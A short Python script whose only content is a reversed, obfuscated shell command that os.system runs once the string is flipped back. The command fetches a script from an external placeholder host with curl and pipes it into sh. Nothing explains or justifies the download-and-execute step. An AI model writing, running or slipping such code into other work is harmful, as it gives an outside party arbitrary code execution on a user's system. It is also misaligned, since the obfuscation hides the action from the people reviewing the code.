import os
cmd = 'hs | t/elpmaxe.nbclean//:sptth s- lruc'
os.system(cmd[::-1])
